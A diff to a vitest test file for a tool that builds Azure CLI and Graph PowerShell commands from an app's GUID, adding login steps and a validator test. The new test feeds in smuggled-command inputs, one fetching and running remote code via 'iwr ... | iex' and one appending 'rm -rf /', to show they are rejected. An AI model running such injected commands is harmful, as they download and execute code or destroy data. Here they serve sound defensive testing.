@@ -1,5 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import { judge, needsOf, nextQuestion, scopesOf, searchOf, type Result } from '../../src/checks';
+import { commandId } from '../../src/checks/guid';
 import { commandPaths, commandsFor } from '../../src/import/commands';
 import { recognise } from '../../src/import/recognise';
 import { emulate } from '../../src/emulator/emulate';
@@ -162,14 +163,14 @@ test('the lines carry the ids and nothing a shell would read otherwise', () => {
   expect(commands).toMatchInlineSnapshot(`
     {
       "bash": [
-        "for p in "/organization?\\$select=id,displayName,verifiedDomains" "/applications(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,appId,displayName,createdDateTime,signInAudience,publicClient,web,spa,passwordCredentials,requiredResourceAccess,disabledByMicrosoftStatus,deletedDateTime,keyCredentials" "/applications(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,isDisabled" "/servicePrincipals(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,appId,displayName,accountEnabled,appOwnerOrganizationId,disabledByMicrosoftStatus,deletedDateTime,passwordCredentials" "/servicePrincipals(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,isDisabled" "/servicePrincipals(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')/appRoleAssignments" "/servicePrincipals(appId='00000002-0000-0ff1-ce00-000000000000')?\\$select=id,appId,displayName,accountEnabled,disabledByMicrosoftStatus,deletedDateTime,appRoles,oauth2PermissionScopes"; do echo "GET /v1.0$p"; az rest --method get --url "https://graph.microsoft.com/v1.0$p" 2>&1; done",
+        "az account show --output none 2>/dev/null || az login --allow-no-subscriptions --output none; for p in "/organization?\\$select=id,displayName,verifiedDomains" "/applications(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,appId,displayName,createdDateTime,signInAudience,publicClient,web,spa,passwordCredentials,requiredResourceAccess,disabledByMicrosoftStatus,deletedDateTime,keyCredentials" "/applications(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,isDisabled" "/servicePrincipals(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,appId,displayName,accountEnabled,appOwnerOrganizationId,disabledByMicrosoftStatus,deletedDateTime,passwordCredentials" "/servicePrincipals(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')?\\$select=id,isDisabled" "/servicePrincipals(appId='8a1d4f70-52b3-4c96-8e1f-d37b60a9c215')/appRoleAssignments" "/servicePrincipals(appId='00000002-0000-0ff1-ce00-000000000000')?\\$select=id,appId,displayName,accountEnabled,disabledByMicrosoftStatus,deletedDateTime,appRoles,oauth2PermissionScopes"; do echo "GET /v1.0$p"; az rest --method get --url "https://graph.microsoft.com/v1.0$p" 2>&1; done",
       ],
       "graph": [
         "Connect-MgGraph -NoWelcome -Scopes 'Application.Read.All','User.Read'",
         "'/organization?$select=id,displayName,verifiedDomains','/applications(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,appId,displayName,createdDateTime,signInAudience,publicClient,web,spa,passwordCredentials,requiredResourceAccess,disabledByMicrosoftStatus,deletedDateTime,keyCredentials','/applications(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,isDisabled','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,appId,displayName,accountEnabled,appOwnerOrganizationId,disabledByMicrosoftStatus,deletedDateTime,passwordCredentials','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,isDisabled','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')/appRoleAssignments','/servicePrincipals(appId=''00000002-0000-0ff1-ce00-000000000000'')?$select=id,appId,displayName,accountEnabled,disabledByMicrosoftStatus,deletedDateTime,appRoles,oauth2PermissionScopes' | ForEach-Object { "GET /v1.0$_"; Invoke-MgGraphRequest -Method GET -Uri ('https://graph.microsoft.com/v1.0' + $_) -OutputType Json -SkipHttpErrorCheck }",
       ],
       "windows": [
-        "'/organization?$select=id,displayName,verifiedDomains','/applications(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,appId,displayName,createdDateTime,signInAudience,publicClient,web,spa,passwordCredentials,requiredResourceAccess,disabledByMicrosoftStatus,deletedDateTime,keyCredentials','/applications(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,isDisabled','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,appId,displayName,accountEnabled,appOwnerOrganizationId,disabledByMicrosoftStatus,deletedDateTime,passwordCredentials','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,isDisabled','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')/appRoleAssignments','/servicePrincipals(appId=''00000002-0000-0ff1-ce00-000000000000'')?$select=id,appId,displayName,accountEnabled,disabledByMicrosoftStatus,deletedDateTime,appRoles,oauth2PermissionScopes' | ForEach-Object { "GET /v1.0$_"; az rest --method get --url ('"https://graph.microsoft.com/v1.0' + $_ + '"') }",
+        "az login --allow-no-subscriptions --output none; '/organization?$select=id,displayName,verifiedDomains','/applications(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,appId,displayName,createdDateTime,signInAudience,publicClient,web,spa,passwordCredentials,requiredResourceAccess,disabledByMicrosoftStatus,deletedDateTime,keyCredentials','/applications(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,isDisabled','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,appId,displayName,accountEnabled,appOwnerOrganizationId,disabledByMicrosoftStatus,deletedDateTime,passwordCredentials','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')?$select=id,isDisabled','/servicePrincipals(appId=''8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'')/appRoleAssignments','/servicePrincipals(appId=''00000002-0000-0ff1-ce00-000000000000'')?$select=id,appId,displayName,accountEnabled,disabledByMicrosoftStatus,deletedDateTime,appRoles,oauth2PermissionScopes' | ForEach-Object { "GET /v1.0$_"; az rest --method get --url ('"https://graph.microsoft.com/v1.0' + $_ + '"') }",
       ],
     }
   `);
@@ -182,4 +183,16 @@ test('another cloud is named in every line', () => {
   const lines = commandsFor({ appId: fertig.inputs.clientId, api, graph: 'https://graph.microsoft.us' });
   expect(lines?.bash[0]).toContain('--resource https://graph.microsoft.us');
   expect(lines?.graph[0]).toContain('-Environment USGov ');
+});
+
+test.each([
+  ["x'; iwr https://example.org | iex; $z='", undefined],
+  [`8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'; rm -rf /`, undefined],
+  ['8a1d4f70-52b3-4c96-8e1f-d37b60a9c215\n', '8a1d4f70-52b3-4c96-8e1f-d37b60a9c215'],
+  [' 8A1D4F70-52B3-4C96-8E1F-D37B60A9C215 ', '8A1D4F70-52B3-4C96-8E1F-D37B60A9C215'],
+  ['8a1d4f7052b34c968e1fd37b60a9c215', undefined],
+  ['', undefined],
+  [undefined, undefined],
+])('only a GUID may become part of a command: %j', (typed, id) => {
+  expect(commandId(typed)).toBe(id);
 });
